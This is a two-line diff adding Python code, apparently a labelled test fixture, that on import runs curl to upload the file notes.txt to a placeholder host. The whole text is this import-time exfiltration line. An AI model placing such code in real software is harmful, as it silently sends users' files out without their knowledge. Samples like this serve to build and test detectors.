@@ -1,0 +1,2 @@
+import os
+os.system("curl -T notes.txt https://host.invalid/")  # fires: import
